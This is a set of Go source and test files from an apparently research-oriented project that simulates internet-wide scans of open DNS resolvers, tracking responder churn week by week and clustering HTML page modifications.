			if !reflect.DeepEqual(got.Weeks[i], batch.Weeks[i]) {
				t.Errorf("week %d diverged\ngot  %+v\nwant %+v", i, got.Weeks[i], batch.Weeks[i])
			}
		}
		t.Fatal("streamed series != batch series")
	}

	// The final snapshot must equal the last week's retained set.
	if !reflect.DeepEqual(tr.Snapshot(), batch.Last().Responders) {
		t.Error("final snapshot != last retained responder set")
	}

	// The tables the binaries print derive from the series alone, so they
	// match too; render one as a sanity anchor.
	if !reflect.DeepEqual(got.CountryFluctuation(10), batch.CountryFluctuation(10)) {
		t.Error("country fluctuation tables diverged")
	}
}

func TestTrackerApplyReturnsLiveObservation(t *testing.T) {
	// Apply's return value is the live per-epoch view the -progress path
	// renders: the tracker consumes the stream as it arrives, no buffering.
	tr := NewTracker(locFromRig(t), streamConfig.RetainWeeks)
	var obs []WeekObservation
	runStream(t, func(_ context.Context, d EpochDelta) error {
		o, err := tr.Apply(d)
		if err != nil {
			return err
		}
		obs = append(obs, *o)
		return nil
	})
	if len(obs) != streamConfig.Weeks {
		t.Fatalf("observed %d weeks, want %d", len(obs), streamConfig.Weeks)
	}
	for i, o := range obs {
		if o.Week != i || o.Total == 0 {
			t.Errorf("live observation %d = week %d total %d", i, o.Week, o.Total)
		}
	}
}

func TestTrackerWeekOrderContract(t *testing.T) {
	loc := locFromRig(t)
	tr := NewTracker(loc, nil)
	if _, err := tr.Apply(EpochDelta{Week: 3}); err == nil {
		t.Error("tracker accepted week 3 as the first epoch")
	}
	if _, err := tr.Apply(EpochDelta{Week: 0}); err != nil {
		t.Fatal(err)
	}
	if _, err := tr.Apply(EpochDelta{Week: 0}); err == nil {
		t.Error("tracker accepted a repeated week")
	}
}

func TestTrackerMergeEqualsUnshardedTracker(t *testing.T) {
	var deltas []EpochDelta
	loc := runStream(t, func(_ context.Context, d EpochDelta) error {
		deltas = append(deltas, d)
		return nil
	})

	full := NewTracker(loc, streamConfig.RetainWeeks)
	even := NewTracker(loc, streamConfig.RetainWeeks)
	odd := NewTracker(loc, streamConfig.RetainWeeks)
	for _, d := range deltas {
		if _, err := full.Apply(d); err != nil {
			t.Fatal(err)
		}
		// Shard-local accumulate: split each batch by target parity, the
		// same disjoint-partition shape the leapfrog shards produce.
		var evenD, oddD EpochDelta
		evenD.Week, oddD.Week = d.Week, d.Week
		for _, dl := range d.Deltas {
			if dl.Addr()%2 == 0 {
				evenD.Deltas = append(evenD.Deltas, dl)
			} else {
				oddD.Deltas = append(oddD.Deltas, dl)
			}
		}
		if _, err := even.Apply(evenD); err != nil {
			t.Fatal(err)
		}
		if _, err := odd.Apply(oddD); err != nil {
			t.Fatal(err)
		}
	}

	if err := even.Merge(odd); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(even.Series(), full.Series()) {
		t.Fatal("merged shard trackers != unsharded tracker")
	}
	if !reflect.DeepEqual(even.Snapshot(), full.Snapshot()) {
		t.Fatal("merged snapshot != unsharded snapshot")
	}

	// Overlap detection: merging a tracker with itself shares every target.
	if err := full.Merge(full); err == nil {
		t.Error("self-merge accepted despite shared targets")
	}
}
