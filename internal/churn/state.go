package churn

import (
	"sort"

	"goingwild/internal/dnswire"
	"goingwild/internal/geodb"
	"goingwild/internal/scanner"
)

// TrackerState is a Tracker frozen for checkpointing: everything the
// incremental collector has accumulated, as plain serializable data.
// Restoring it with ResumeTracker and feeding the remaining weeks
// produces the same Series an uninterrupted tracker produces.
type TrackerState struct {
	RetainWeeks []int                 `json:"retain_weeks,omitempty"`
	Snapshot    []scanner.Responder   `json:"snapshot,omitempty"`
	ByRCode     map[dnswire.RCode]int `json:"by_rcode,omitempty"`
	ByCountry   map[string]int        `json:"by_country,omitempty"`
	ByRIR       map[geodb.RIR]int     `json:"by_rir,omitempty"`
	Weeks       []WeekObservation     `json:"weeks,omitempty"`
}

// State freezes the tracker. Top-level mutable structures are copied;
// past WeekObservations are shared, which is safe because the tracker
// never mutates an appended observation and callers of State only
// serialize it.
func (t *Tracker) State() TrackerState {
	st := TrackerState{
		Snapshot:  append([]scanner.Responder(nil), t.snapshot...),
		ByRCode:   copyMap(t.byRCode),
		ByCountry: copyMap(t.byCountry),
		ByRIR:     copyMap(t.byRIR),
		Weeks:     append([]WeekObservation(nil), t.series.Weeks...),
	}
	for w := range t.retain {
		st.RetainWeeks = append(st.RetainWeeks, w)
	}
	// Map iteration order would leak into the serialized checkpoint.
	sort.Ints(st.RetainWeeks)
	return st
}

// ResumeTracker rebuilds a tracker from a frozen state. The locator is
// supplied fresh — functions do not serialize — and must be the one the
// original tracker used, or the aggregates will drift.
func ResumeTracker(loc Locator, st TrackerState) *Tracker {
	t := NewTracker(loc, st.RetainWeeks)
	t.snapshot = st.Snapshot
	if st.ByRCode != nil {
		t.byRCode = st.ByRCode
	}
	if st.ByCountry != nil {
		t.byCountry = st.ByCountry
	}
	if st.ByRIR != nil {
		t.byRIR = st.ByRIR
	}
	t.series.Weeks = st.Weeks
	return t
}
