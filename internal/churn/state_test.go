package churn

import (
	"context"
	"encoding/json"
	"reflect"
	"testing"

	"goingwild/internal/geodb"
	"goingwild/internal/scanner"
	"goingwild/internal/wildnet"
)

// TestTrackerResumeMidSeries freezes a tracker after k weeks, round-trips
// the state through JSON (as a checkpoint would), and streams the
// remaining weeks into the restored tracker. The final series must be
// identical to an uninterrupted stream's.
func TestTrackerResumeMidSeries(t *testing.T) {
	const order, weeks, cut = 14, 5, 2
	w, err := wildnet.NewWorld(wildnet.DefaultConfig(order))
	if err != nil {
		t.Fatal(err)
	}
	loc := func(u uint32) (string, geodb.RIR) {
		l := w.Geo().LookupU32(u)
		return l.Country, l.RIR
	}
	cfg := StudyConfig{Order: order, Seed: 21, Weeks: weeks, Blacklist: w.ScanBlacklist(), RetainWeeks: []int{0, weeks - 1}}

	stream := func(cfg StudyConfig, tr *Tracker) {
		t.Helper()
		mt := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
		defer mt.Close()
		sc := scanner.New(mt, scanner.Options{Workers: 4, SettleDelay: scanner.NoSettle})
		err := StreamWeekly(context.Background(), sc, mt, cfg, func(_ context.Context, d EpochDelta) error {
			_, err := tr.Apply(d)
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	}

	whole := NewTracker(loc, cfg.RetainWeeks)
	stream(cfg, whole)

	head := NewTracker(loc, cfg.RetainWeeks)
	headCfg := cfg
	headCfg.Weeks = cut
	stream(headCfg, head)

	blob, err := json.Marshal(head.State())
	if err != nil {
		t.Fatal(err)
	}
	var st TrackerState
	if err := json.Unmarshal(blob, &st); err != nil {
		t.Fatal(err)
	}
	resumed := ResumeTracker(loc, st)
	tailCfg := cfg
	tailCfg.StartWeek = cut
	tailCfg.Prev = resumed.Snapshot()
	stream(tailCfg, resumed)

	if !reflect.DeepEqual(resumed.Series(), whole.Series()) {
		t.Errorf("resumed series diverged after %d/%d weeks: %d vs %d weeks collected",
			cut, weeks, len(resumed.Series().Weeks), len(whole.Series().Weeks))
	}
}
