package churn

import (
	"context"
	"testing"
	"time"

	"goingwild/internal/dnswire"
	"goingwild/internal/geodb"
	"goingwild/internal/scanner"
	"goingwild/internal/wildnet"
)

type rig struct {
	w  *wildnet.World
	tr *wildnet.MemTransport
	sc *scanner.Scanner
}

func newRig(t testing.TB, order uint) *rig {
	t.Helper()
	w, err := wildnet.NewWorld(wildnet.DefaultConfig(order))
	if err != nil {
		t.Fatal(err)
	}
	tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
	sc := scanner.New(tr, scanner.Options{Workers: 4, Retries: 1, SettleDelay: time.Millisecond})
	return &rig{w: w, tr: tr, sc: sc}
}

func (r *rig) locator() Locator {
	return func(u uint32) (string, geodb.RIR) {
		loc := r.w.Geo().LookupU32(u)
		return loc.Country, loc.RIR
	}
}

func TestWeeklySeriesDeclines(t *testing.T) {
	r := newRig(t, 17)
	defer r.tr.Close()
	series, err := RunWeekly(context.Background(), r.sc, r.tr, r.locator(), StudyConfig{
		Order: 17, Seed: 11, Weeks: 8, Blacklist: r.w.ScanBlacklist(),
		RetainWeeks: []int{0, 7},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(series.Weeks) != 8 {
		t.Fatalf("weeks = %d", len(series.Weeks))
	}
	if series.First().Responders == nil || series.Last().Responders == nil {
		t.Error("retained responder lists missing")
	}
	for _, w := range series.Weeks {
		if w.ByRCode[dnswire.RCodeNoError] <= w.ByRCode[dnswire.RCodeRefused] {
			t.Errorf("week %d: NOERROR not dominant: %v", w.Week, w.ByRCode)
		}
	}
}

func TestCountryFluctuationShape(t *testing.T) {
	r := newRig(t, 19)
	defer r.tr.Close()
	// Two scans: week 0 and week 55 (the table compares endpoints).
	series := &Series{}
	for _, week := range []int{0, 55} {
		r.tr.SetTime(wildnet.At(week))
		res, err := r.sc.Sweep(19, uint32(100+week), r.w.ScanBlacklist())
		if err != nil {
			t.Fatal(err)
		}
		obs := WeekObservation{Week: week, Total: res.Total(),
			ByRCode: res.ByRCode, ByCountry: map[string]int{}, ByRIR: map[geodb.RIR]int{}}
		loc := r.locator()
		for _, resp := range res.Responders {
			c, rir := loc(resp.Addr)
			obs.ByCountry[c]++
			obs.ByRIR[rir]++
		}
		series.Weeks = append(series.Weeks, obs)
	}
	rows := series.CountryFluctuation(10)
	if len(rows) != 10 {
		t.Fatalf("rows = %d", len(rows))
	}
	// US must lead the table, as in Table 1 (ignoring the residual
	// bucket which models "all other countries").
	top := rows[0].Key
	if top == "XO" {
		top = rows[1].Key
	}
	if top != "US" {
		t.Errorf("top country = %s, want US", top)
	}
	// Overall decline: most Top-10 countries shrink.
	declining := 0
	for _, row := range rows {
		if row.Fluctuation < 0 {
			declining++
		}
	}
	if declining < 6 {
		t.Errorf("only %d/10 countries declining", declining)
	}
	// RIR table covers all five registries.
	rirRows := series.RIRFluctuation()
	if len(rirRows) != 5 {
		t.Errorf("RIR rows = %d", len(rirRows))
	}
	for _, row := range rirRows {
		if row.Start == 0 {
			t.Errorf("registry %s has no responders", row.Key)
		}
	}
}

func TestCohortStudyMatchesFigure2(t *testing.T) {
	r := newRig(t, 17)
	defer r.tr.Close()
	r.tr.SetTime(wildnet.At(0))
	res, err := r.sc.Sweep(17, 3, r.w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	var cohort []uint32
	for _, resp := range res.Responders {
		cohort = append(cohort, resp.Addr)
	}
	trusted := r.w.RoleAddr(wildnet.RoleTrustedDNS, 0)
	study, err := RunCohort(context.Background(), r.sc, r.tr, cohort, 10, trusted)
	if err != nil {
		t.Fatal(err)
	}
	if study.Day1Survival > 0.62 || study.Day1Survival < 0.40 {
		t.Errorf("day-1 survival = %.2f, want ≈ 0.55 (>40%% gone within a day)", study.Day1Survival)
	}
	if s := study.SurvivalByWeek[1]; s < 0.38 || s > 0.58 {
		t.Errorf("week-1 survival = %.2f, want ≈ 0.48 (52.2%% disappear)", s)
	}
	// Monotone decline.
	for k := 1; k < len(study.SurvivalByWeek); k++ {
		if study.SurvivalByWeek[k] > study.SurvivalByWeek[k-1]+1e-9 {
			t.Errorf("survival increased at week %d", k)
		}
	}
	// Dynamic rDNS share of one-day churners ≈ 67.4%.
	if study.RDNSCount == 0 {
		t.Fatal("no rDNS records for churners")
	}
	if study.DynamicRDNSShare < 0.55 || study.DynamicRDNSShare > 0.80 {
		t.Errorf("dynamic rDNS share = %.2f, want ≈ 0.674", study.DynamicRDNSShare)
	}
}

func TestClassifyVanished(t *testing.T) {
	mk := func(addrs ...uint32) []scanner.Responder {
		out := make([]scanner.Responder, len(addrs))
		for i, a := range addrs {
			out[i] = scanner.Responder{Addr: a, Source: a}
		}
		return out
	}
	asOf := func(u uint32) (uint32, string) { return u >> 8, "as" } // /24-as-AS toy mapping
	first := mk(0x0100, 0x0101, 0x0102, 0x0200, 0x0201, 0x0300, 0x0400)
	last := mk(0x0400) // AS 4 survived
	secondary := map[uint32]bool{0x0100: true}
	got := ClassifyVanished(first, last, secondary, asOf, 2, 3)
	if len(got) != 2 {
		t.Fatalf("vanished networks = %d, want 2 (AS 1 and AS 2)", len(got))
	}
	reasons := map[uint32]string{}
	for _, v := range got {
		reasons[v.ASN] = v.Reason
	}
	if reasons[1] != "blocks-scanner" {
		t.Errorf("AS1 reason = %s", reasons[1])
	}
	if reasons[2] != "shutdown" {
		t.Errorf("AS2 reason = %s", reasons[2])
	}
}

func TestSurvivorConcentration(t *testing.T) {
	c := &CohortStudy{Survivors: []uint32{1, 2, 3, 4, 5, 6, 7, 8, 9, 10}}
	// Addresses 1-5 in AS 100, 6-7 in AS 200, 8 in AS 300, 9-10 singles.
	asOf := func(u uint32) uint32 {
		switch {
		case u <= 5:
			return 100
		case u <= 7:
			return 200
		case u == 8:
			return 300
		default:
			return 1000 + u
		}
	}
	c.ConcentrateSurvivors(asOf)
	if c.TopSurvivorNetworks != 0.8 {
		t.Errorf("top-3 share = %f, want 0.8", c.TopSurvivorNetworks)
	}
	empty := &CohortStudy{}
	empty.ConcentrateSurvivors(asOf) // must not divide by zero
	if empty.TopSurvivorNetworks != 0 {
		t.Error("empty cohort produced a share")
	}
}

func TestREFUSEDCountStaysFlat(t *testing.T) {
	r := newRig(t, 17)
	defer r.tr.Close()
	counts := []int{}
	for _, week := range []int{0, 27, 55} {
		r.tr.SetTime(wildnet.At(week))
		res, err := r.sc.Sweep(17, uint32(500+week), r.w.ScanBlacklist())
		if err != nil {
			t.Fatal(err)
		}
		counts = append(counts, res.ByRCode[dnswire.RCodeRefused])
	}
	// Figure 1: the REFUSED population stays flat while NOERROR declines.
	lo, hi := counts[0], counts[0]
	for _, c := range counts {
		if c < lo {
			lo = c
		}
		if c > hi {
			hi = c
		}
	}
	if lo == 0 || float64(hi)/float64(lo) > 1.5 {
		t.Errorf("REFUSED counts %v not flat", counts)
	}
}
