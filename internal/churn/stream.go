package churn

import (
	"context"
	"fmt"
	"sort"

	"goingwild/internal/dnswire"
	"goingwild/internal/geodb"
	"goingwild/internal/scanner"
	"goingwild/internal/wildnet"
)

// EpochDelta is one weekly scan expressed as a typed change batch: the
// deltas that transform the previous week's responder set into this
// week's, sorted by target address. It is the unit flowing through the
// epoch stream's bounded queues.
type EpochDelta struct {
	Week   int
	Probed uint64
	Deltas []scanner.ResponderDelta
}

// StreamWeekly is the incremental producer behind RunWeekly: it runs
// the identical weekly sweeps — same clock advance, same per-week seed
// schedule, in the same order, so the simulated world's fault state
// evolves exactly as under the batch path — but hands each week to sink
// as an EpochDelta instead of accumulating a Series. A blocking sink
// (e.g. pipeline.Queue.Put) is the backpressure seam: the producer can
// run only as far ahead as the sink allows. A sink error (including a
// closed queue's) aborts the stream.
func StreamWeekly(ctx context.Context, sc *scanner.Scanner, clock Clock, cfg StudyConfig, sink func(context.Context, EpochDelta) error) error {
	prev := cfg.Prev
	for week := cfg.StartWeek; week < cfg.Weeks; week++ {
		if err := ctx.Err(); err != nil {
			return err
		}
		clock.SetTime(wildnet.At(week))
		var res *scanner.SweepResult
		var err error
		if cfg.Sweep != nil {
			res, err = cfg.Sweep(ctx, week)
		} else {
			res, err = sc.SweepContext(ctx, cfg.Order, cfg.Seed+uint32(week), cfg.Blacklist)
		}
		if err != nil {
			return err
		}
		d := EpochDelta{Week: week, Probed: res.Probed, Deltas: scanner.DiffSweepResponders(prev, res.Responders)}
		prev = res.Responders
		if err := sink(ctx, d); err != nil {
			return err
		}
	}
	return nil
}

// Tracker is the mergeable streaming collector for the weekly series:
// it consumes EpochDeltas in week order and maintains the responder
// snapshot plus the per-week aggregates incrementally, so each week's
// tables can render live without a second pass. Its Series output is
// identical — map for map, slice for slice — to what the batch
// RunWeekly builds from full sweeps.
//
// A Tracker is shard-local (accumulate) and Merge is the deterministic
// combine: trackers fed disjoint target subsets of the same weeks fold
// into the tracker the full stream would have produced.
type Tracker struct {
	loc      Locator
	retain   map[int]bool
	snapshot []scanner.Responder

	byRCode   map[dnswire.RCode]int
	byCountry map[string]int
	byRIR     map[geodb.RIR]int

	series Series
}

// NewTracker builds a tracker that locates responders with loc and
// retains the responder lists of retainWeeks (as StudyConfig does).
func NewTracker(loc Locator, retainWeeks []int) *Tracker {
	retain := map[int]bool{}
	for _, w := range retainWeeks {
		retain[w] = true
	}
	return &Tracker{
		loc:       loc,
		retain:    retain,
		byRCode:   map[dnswire.RCode]int{},
		byCountry: map[string]int{},
		byRIR:     map[geodb.RIR]int{},
	}
}

// bump adjusts one aggregate bucket, deleting the key when it reaches
// zero: the batch path builds its maps by pure increment, so they carry
// only >0 entries, and the incremental maps must match key for key.
func bump[K comparable](m map[K]int, k K, by int) {
	if n := m[k] + by; n == 0 {
		delete(m, k)
	} else {
		m[k] = n
	}
}

// apply folds one responder change into the aggregates.
func (t *Tracker) apply(r scanner.Responder, by int) {
	bump(t.byRCode, r.RCode, by)
	country, rir := t.loc(r.Addr)
	bump(t.byCountry, country, by)
	bump(t.byRIR, rir, by)
}

// lookup finds the current record of addr in the sorted snapshot.
func (t *Tracker) lookup(addr uint32) (scanner.Responder, bool) {
	i := sort.Search(len(t.snapshot), func(i int) bool { return t.snapshot[i].Addr >= addr })
	if i < len(t.snapshot) && t.snapshot[i].Addr == addr {
		return t.snapshot[i], true
	}
	return scanner.Responder{}, false
}

// Apply consumes one week's delta batch: it advances the snapshot,
// folds the changes into the running aggregates, appends the week's
// observation to the series, and returns that observation so the
// caller can render it live. Weeks must arrive in order; a delta that
// violates the stream contract surfaces as an error.
func (t *Tracker) Apply(d EpochDelta) (*WeekObservation, error) {
	if want := len(t.series.Weeks); d.Week != want {
		return nil, fmt.Errorf("churn: epoch delta for week %d, want week %d", d.Week, want)
	}
	for _, dl := range d.Deltas {
		switch dl.Op {
		case scanner.DeltaAdd:
			t.apply(dl.Responder, +1)
		case scanner.DeltaRemove:
			t.apply(dl.Responder, -1)
		case scanner.DeltaUpdate:
			old, ok := t.lookup(dl.Addr())
			if !ok {
				return nil, fmt.Errorf("churn: delta update of absent target %08x", dl.Addr())
			}
			t.apply(old, -1)
			t.apply(dl.Responder, +1)
		}
	}
	next, err := scanner.ApplyResponderDeltas(t.snapshot, d.Deltas)
	if err != nil {
		return nil, fmt.Errorf("churn: week %d: %w", d.Week, err)
	}
	t.snapshot = next
	obs := WeekObservation{
		Week:      d.Week,
		Total:     len(t.snapshot),
		ByRCode:   copyMap(t.byRCode),
		ByCountry: copyMap(t.byCountry),
		ByRIR:     copyMap(t.byRIR),
	}
	if t.retain[d.Week] {
		// Non-nil even when empty, matching the batch collector's freeze.
		obs.Responders = make([]scanner.Responder, len(t.snapshot))
		copy(obs.Responders, t.snapshot)
	}
	t.series.Weeks = append(t.series.Weeks, obs)
	return &t.series.Weeks[len(t.series.Weeks)-1], nil
}

// Snapshot is the current responder set, sorted by address. The caller
// must not mutate it.
func (t *Tracker) Snapshot() []scanner.Responder { return t.snapshot }

// Series returns the accumulated weekly series — after the final epoch,
// the same value RunWeekly returns.
func (t *Tracker) Series() *Series { return &t.series }

// Merge folds other — a tracker fed the same weeks over a disjoint
// target subset — into t. Snapshots merge by address (a shared target
// is an error: shard streams must partition the space), per-week totals
// and aggregate maps sum, and retained responder lists merge sorted.
// The combine is deterministic: the result is independent of merge
// order up to the commutativity of the sums.
func (t *Tracker) Merge(other *Tracker) error {
	if len(t.series.Weeks) != len(other.series.Weeks) {
		return fmt.Errorf("churn: merging trackers at week %d and week %d", len(t.series.Weeks), len(other.series.Weeks))
	}
	merged, err := mergeResponders(t.snapshot, other.snapshot)
	if err != nil {
		return err
	}
	t.snapshot = merged
	for k, n := range other.byRCode {
		bump(t.byRCode, k, n)
	}
	for k, n := range other.byCountry {
		bump(t.byCountry, k, n)
	}
	for k, n := range other.byRIR {
		bump(t.byRIR, k, n)
	}
	for i := range t.series.Weeks {
		a, b := &t.series.Weeks[i], &other.series.Weeks[i]
		a.Total += b.Total
		for k, n := range b.ByRCode {
			bump(a.ByRCode, k, n)
		}
		for k, n := range b.ByCountry {
			bump(a.ByCountry, k, n)
		}
		for k, n := range b.ByRIR {
			bump(a.ByRIR, k, n)
		}
		if a.Responders != nil || b.Responders != nil {
			if a.Responders, err = mergeResponders(a.Responders, b.Responders); err != nil {
				return fmt.Errorf("churn: week %d retained set: %w", a.Week, err)
			}
		}
	}
	return nil
}

// mergeResponders merge-sorts two disjoint sorted responder sets.
func mergeResponders(a, b []scanner.Responder) ([]scanner.Responder, error) {
	out := make([]scanner.Responder, 0, len(a)+len(b))
	i, j := 0, 0
	for i < len(a) && j < len(b) {
		switch {
		case a[i].Addr < b[j].Addr:
			out = append(out, a[i])
			i++
		case a[i].Addr > b[j].Addr:
			out = append(out, b[j])
			j++
		default:
			return nil, fmt.Errorf("churn: target %08x tracked by both shards", a[i].Addr)
		}
	}
	out = append(out, a[i:]...)
	out = append(out, b[j:]...)
	return out, nil
}

func copyMap[K comparable](m map[K]int) map[K]int {
	out := make(map[K]int, len(m))
	for k, v := range m {
		out[k] = v
	}
	return out
}
