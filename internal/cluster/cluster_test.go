package cluster

import (
	"math"
	"testing"
	"testing/quick"

	"goingwild/internal/htmlx"
)

func TestEditDistanceTokens(t *testing.T) {
	cases := []struct {
		a, b []string
		want float64
	}{
		{nil, nil, 0},
		{[]string{"a"}, nil, 1},
		{[]string{"a", "b", "c"}, []string{"a", "b", "c"}, 0},
		{[]string{"a", "b", "c"}, []string{"a", "x", "c"}, 1.0 / 3},
		{[]string{"a"}, []string{"a", "b"}, 0.5},
	}
	for _, c := range cases {
		if got := EditDistanceTokens(c.a, c.b); math.Abs(got-c.want) > 1e-9 {
			t.Errorf("EditDistanceTokens(%v, %v) = %f, want %f", c.a, c.b, got, c.want)
		}
	}
}

func TestEditDistanceStringSymmetric(t *testing.T) {
	f := func(a, b string) bool {
		d1 := EditDistanceString(a, b)
		d2 := EditDistanceString(b, a)
		return d1 == d2 && d1 >= 0 && d1 <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestJaccardMultiset(t *testing.T) {
	a := map[string]int{"div": 2, "img": 1}
	b := map[string]int{"div": 1, "a": 1}
	// inter = min(2,1)=1; union = max(2,1)+1+1 = 4 → distance 0.75.
	if got := JaccardMultiset(a, b); math.Abs(got-0.75) > 1e-9 {
		t.Errorf("JaccardMultiset = %f, want 0.75", got)
	}
	if got := JaccardMultiset(a, a); got != 0 {
		t.Errorf("self distance = %f", got)
	}
	if got := JaccardMultiset(nil, nil); got != 0 {
		t.Errorf("empty distance = %f", got)
	}
	if got := JaccardMultiset(a, nil); got != 1 {
		t.Errorf("disjoint distance = %f", got)
	}
}

func TestJaccardSetIgnoresDuplicates(t *testing.T) {
	if got := JaccardSet([]string{"x", "x", "y"}, []string{"y", "x"}); got != 0 {
		t.Errorf("set distance = %f, want 0", got)
	}
}

func TestFeatureDistanceIdentityAndRange(t *testing.T) {
	fa := htmlx.Extract(`<html><title>A</title><img src="/a"><a href="/x">x</a><script>var a=1;</script></html>`)
	if d := FeatureDistance(fa, fa); d != 0 {
		t.Errorf("self distance = %f", d)
	}
	fb := htmlx.Extract(`<svg><circle r="1"/></svg>`)
	d := FeatureDistance(fa, fb)
	if d <= 0.3 || d > 1 {
		t.Errorf("dissimilar pages distance = %f", d)
	}
}

func TestFeatureDistanceMetricProperties(t *testing.T) {
	pages := []string{
		`<html><title>one</title><div><p>text</p></div></html>`,
		`<html><title>two</title><div><p>text</p><img src="/i"></div></html>`,
		`<html><title>three</title><table><tr><td>x</td></tr></table></html>`,
	}
	var fs []*htmlx.Features
	for _, p := range pages {
		fs = append(fs, htmlx.Extract(p))
	}
	for i := range fs {
		for j := range fs {
			dij := FeatureDistance(fs[i], fs[j])
			dji := FeatureDistance(fs[j], fs[i])
			if dij != dji {
				t.Errorf("asymmetric: d(%d,%d)=%f d(%d,%d)=%f", i, j, dij, j, i, dji)
			}
			if dij < 0 || dij > 1 {
				t.Errorf("out of range: %f", dij)
			}
		}
	}
}

func TestAgglomerateSeparatesTwoFamilies(t *testing.T) {
	// Items 0-4 near each other, 5-9 near each other, far across.
	dist := func(i, j int) float64 {
		if (i < 5) == (j < 5) {
			return 0.05
		}
		return 0.9
	}
	r := Agglomerate(10, dist, 0.4)
	if r.Num != 2 {
		t.Fatalf("clusters = %d, want 2", r.Num)
	}
	for i := 1; i < 5; i++ {
		if r.Assign[i] != r.Assign[0] {
			t.Errorf("item %d not with family A", i)
		}
	}
	for i := 6; i < 10; i++ {
		if r.Assign[i] != r.Assign[5] {
			t.Errorf("item %d not with family B", i)
		}
	}
	if r.Assign[0] == r.Assign[5] {
		t.Error("families merged")
	}
	if len(r.Merges) != 8 {
		t.Errorf("merges = %d, want 8", len(r.Merges))
	}
}

func TestAgglomerateSingletonAndEmpty(t *testing.T) {
	r := Agglomerate(0, nil, 0.5)
	if r.Num != 0 || len(r.Assign) != 0 {
		t.Errorf("empty clustering = %+v", r)
	}
	r = Agglomerate(1, func(i, j int) float64 { return 0 }, 0.5)
	if r.Num != 1 || r.Assign[0] != 0 {
		t.Errorf("singleton clustering = %+v", r)
	}
}

func TestAgglomerateAverageLinkageChaining(t *testing.T) {
	// A chain 0-1-2 with d(0,1)=d(1,2)=0.3 but d(0,2)=0.8: single
	// linkage would merge all three at 0.3; average linkage merges 0,1
	// then sees d({0,1},2) = (0.3+0.8)/2 = 0.55 > cutoff 0.5.
	d := [][]float64{
		{0, 0.3, 0.8},
		{0.3, 0, 0.3},
		{0.8, 0.3, 0},
	}
	r := Agglomerate(3, func(i, j int) float64 { return d[i][j] }, 0.5)
	if r.Num != 2 {
		t.Errorf("clusters = %d, want 2 (average linkage resists chaining)", r.Num)
	}
}

func TestTagDiff(t *testing.T) {
	gt := []string{"html", "head", "title", "body", "div", "p"}
	unknown := []string{"html", "head", "title", "body", "div", "script", "p", "img"}
	added, removed := TagDiff(unknown, gt)
	if added["script"] != 1 || added["img"] != 1 || len(added) != 2 {
		t.Errorf("added = %v", added)
	}
	if len(removed) != 0 {
		t.Errorf("removed = %v", removed)
	}
}

func TestTagDiffIdentity(t *testing.T) {
	seq := []string{"a", "b", "c"}
	added, removed := TagDiff(seq, seq)
	if len(added) != 0 || len(removed) != 0 {
		t.Errorf("identity diff = %v / %v", added, removed)
	}
	m := Modification{Added: added, Removed: removed}
	if m.Size() != 0 {
		t.Errorf("identity size = %d", m.Size())
	}
}

func TestModDistanceGroupsSimilarInjections(t *testing.T) {
	inj1 := Modification{Added: map[string]int{"script": 1}, Removed: map[string]int{}}
	inj2 := Modification{Added: map[string]int{"script": 1}, Removed: map[string]int{}}
	other := Modification{Added: map[string]int{"img": 46, "form": 1}, Removed: map[string]int{"div": 5}}
	if d := ModDistance(inj1, inj2); d != 0 {
		t.Errorf("identical injections distance = %f", d)
	}
	if d := ModDistance(inj1, other); d < 0.5 {
		t.Errorf("different modifications distance = %f", d)
	}
	r := ClusterModifications([]Modification{inj1, inj2, other}, 0.3)
	if r.Num != 2 {
		t.Errorf("modification clusters = %d, want 2", r.Num)
	}
}

func TestDendrogramRenders(t *testing.T) {
	r := Agglomerate(4, func(i, j int) float64 { return 0.1 }, 1.0)
	s := r.Dendrogram()
	if s == "" {
		t.Error("empty dendrogram")
	}
}

func TestAgglomerateInvariantsProperty(t *testing.T) {
	f := func(seed int64) bool {
		r := newDetRand(seed)
		n := 3 + r.intn(25)
		// Random symmetric distance matrix in [0, 1].
		d := make([][]float64, n)
		for i := range d {
			d[i] = make([]float64, n)
		}
		for i := 0; i < n; i++ {
			for j := i + 1; j < n; j++ {
				v := r.unit()
				d[i][j], d[j][i] = v, v
			}
		}
		cutoff := r.unit()
		res := Agglomerate(n, func(i, j int) float64 { return d[i][j] }, cutoff)
		// Invariant 1: every item assigned to a valid cluster.
		if len(res.Assign) != n {
			return false
		}
		seen := map[int]bool{}
		for _, c := range res.Assign {
			if c < 0 || c >= res.Num {
				return false
			}
			seen[c] = true
		}
		// Invariant 2: all cluster ids used.
		if len(seen) != res.Num {
			return false
		}
		// Invariant 3: merges bounded and at non-decreasing count math:
		// clusters + merges == n.
		if res.Num+len(res.Merges) != n {
			return false
		}
		// Invariant 4: every merge happened at distance ≤ cutoff.
		for _, m := range res.Merges {
			if m.Dist > cutoff {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 150}); err != nil {
		t.Fatal(err)
	}
}

// newDetRand is a tiny deterministic generator for property tests.
type detRand struct{ state uint64 }

func newDetRand(seed int64) *detRand { return &detRand{state: uint64(seed)*2654435761 + 1} }

func (r *detRand) next() uint64 {
	r.state = r.state*6364136223846793005 + 1442695040888963407
	return r.state >> 11
}

func (r *detRand) unit() float64 { return float64(r.next()%1000000) / 1000000 }

func (r *detRand) intn(n int) int { return int(r.next() % uint64(n)) }

func TestLinkageAblation(t *testing.T) {
	// A chain of items each 0.3 from its neighbor but far from the rest:
	// single linkage swallows the whole chain at the 0.4 cutoff; average
	// linkage keeps chain ends apart — the reason §3.6 uses it.
	n := 8
	dist := func(i, j int) float64 {
		d := i - j
		if d < 0 {
			d = -d
		}
		if d == 1 {
			return 0.3
		}
		return 0.9
	}
	single := AgglomerateWith(n, dist, 0.4, LinkageSingle)
	average := AgglomerateWith(n, dist, 0.4, LinkageAverage)
	complete := AgglomerateWith(n, dist, 0.4, LinkageComplete)
	if single.Num != 1 {
		t.Errorf("single linkage clusters = %d, want 1 (full chain)", single.Num)
	}
	if average.Num <= single.Num {
		t.Errorf("average linkage (%d clusters) did not resist chaining vs single (%d)",
			average.Num, single.Num)
	}
	if complete.Num < average.Num {
		t.Errorf("complete linkage (%d) less conservative than average (%d)",
			complete.Num, average.Num)
	}
}
