// Package cluster implements the unsupervised grouping machinery of §3.6:
